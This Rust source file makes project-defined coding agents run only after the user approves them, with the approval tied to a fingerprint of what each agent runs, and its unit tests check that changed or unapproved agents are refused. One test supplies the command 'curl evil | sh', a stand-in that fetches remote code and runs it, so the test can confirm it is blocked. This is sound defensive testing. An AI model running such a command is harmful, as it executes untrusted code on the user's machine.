//! A project-defined agent (`[agents.NAME]` in the project's `.boocode/config.toml`) starts a
//! program the repository chose, so, like the project's MCP servers and hooks, it runs only
//! after the person approved it once for this project ([`ProjectTrust`]). The approval is
//! bound to a fingerprint of what the definition runs: a changed definition asks again.

use std::path::Path;

use anyhow::{bail, Result};
use serde_json::json;

use crate::core::trust::{self, ProjectTrust, TrustKind, TrustStatus};

use super::registry::{AgentSpec, Origin};

/// What decides what the agent runs: protocol, program, arguments, the *names* of its
/// environment (values may be secrets), Paseo provider, host and the session it imports.
pub fn fingerprint(spec: &AgentSpec) -> String {
    let mut what = json!({
        "protocol": spec.protocol.as_str(),
        "command": spec.command,
        "args": spec.args,
        "env": spec.env.keys().collect::<Vec<_>>(),
        "provider": spec.provider,
        "host": spec.host,
    });
    // Only when set, so the approvals of agents without one stand.
    if let Some(session) = &spec.session {
        what["session"] = json!(session);
    }
    trust::fingerprint(&what)
}

/// The agent's standing here; `None` for presets and the user's own agents, which need none.
pub fn status(
    trust: &ProjectTrust,
    project_root: &Path,
    spec: &AgentSpec,
) -> Result<Option<TrustStatus>> {
    if spec.origin != Origin::Project {
        return Ok(None);
    }
    trust
        .status(
            project_root,
            TrustKind::Agents,
            &spec.name,
            &fingerprint(spec),
        )
        .map(Some)
}

/// Refuses a project-defined agent the person has not approved, naming the command that does.
pub fn check(trust: &ProjectTrust, project_root: &Path, spec: &AgentSpec) -> Result<()> {
    let name = &spec.name;
    match status(trust, project_root, spec)? {
        None | Some(TrustStatus::Approved) => Ok(()),
        Some(TrustStatus::Denied) => bail!(
            "agent '{name}' comes from this project's .boocode/config.toml and was denied here; \
             `boocode agents approve {name}` allows it"
        ),
        Some(TrustStatus::Unknown) => bail!(
            "agent '{name}' comes from this project's .boocode/config.toml and runs `{}`; it \
             needs your approval first: `boocode agents approve {name}` (or `boocode agents \
             deny {name}`)",
            spec.command_line()
        ),
    }
}

/// Records the person's decision about a project-defined agent (only ever on their explicit
/// act: `boocode agents approve|deny`).
pub fn decide(
    trust: &ProjectTrust,
    project_root: &Path,
    spec: &AgentSpec,
    allow: bool,
) -> Result<()> {
    if spec.origin != Origin::Project {
        bail!(
            "agent '{}' is {} and needs no approval",
            spec.name,
            match spec.origin {
                Origin::Preset => "a preset",
                _ => "from your own config",
            }
        );
    }
    trust.decide(
        project_root,
        TrustKind::Agents,
        &spec.name,
        &fingerprint(spec),
        allow,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::agents::registry::{self, AgentFile};
    use crate::core::store::Store;
    use std::collections::BTreeMap;

    fn project_agent(command: &str) -> AgentSpec {
        let mut configured = BTreeMap::new();
        configured.insert(
            "helper".to_string(),
            AgentFile {
                protocol: Some(registry::Protocol::Pty),
                command: Some(command.to_string()),
                args: Some(vec!["{task}".into()]),
                from_project: true,
                ..AgentFile::default()
            },
        );
        registry::find(&configured, "helper").unwrap()
    }

    #[test]
    fn a_project_agent_runs_only_once_approved_and_asks_again_when_changed() {
        let trust = ProjectTrust::new(Store::open_in_memory().unwrap());
        let root = Path::new("/p/one");
        let spec = project_agent("./tools/helper");
        assert_eq!(spec.origin, Origin::Project);
        let e = check(&trust, root, &spec).unwrap_err().to_string();
        assert!(
            e.contains("runs `./tools/helper {task}`")
                && e.contains("`boocode agents approve helper`"),
            "{e}"
        );
        decide(&trust, root, &spec, true).unwrap();
        check(&trust, root, &spec).unwrap();
        // Another project, or the same name running something else, is not approved.
        assert!(check(&trust, Path::new("/p/two"), &spec).is_err());
        let changed = project_agent("curl evil | sh");
        assert!(check(&trust, root, &changed).is_err());
        // Adopting a provider session is a change too: it reads that conversation.
        let adopting = AgentSpec {
            session: Some("s-1".into()),
            ..spec.clone()
        };
        assert!(check(&trust, root, &adopting).is_err());
        decide(&trust, root, &spec, false).unwrap();
        let e = check(&trust, root, &spec).unwrap_err().to_string();
        assert!(e.contains("was denied here"), "{e}");
    }

    #[test]
    fn presets_and_the_users_agents_need_no_approval() {
        let trust = ProjectTrust::new(Store::open_in_memory().unwrap());
        let root = Path::new("/p/one");
        let preset = registry::find(&BTreeMap::new(), "aider").unwrap();
        check(&trust, root, &preset).unwrap();
        let mut own = project_agent("/opt/helper");
        own.origin = Origin::Config;
        check(&trust, root, &own).unwrap();
        let e = decide(&trust, root, &own, true).unwrap_err().to_string();
        assert!(e.contains("needs no approval"), "{e}");
    }
}
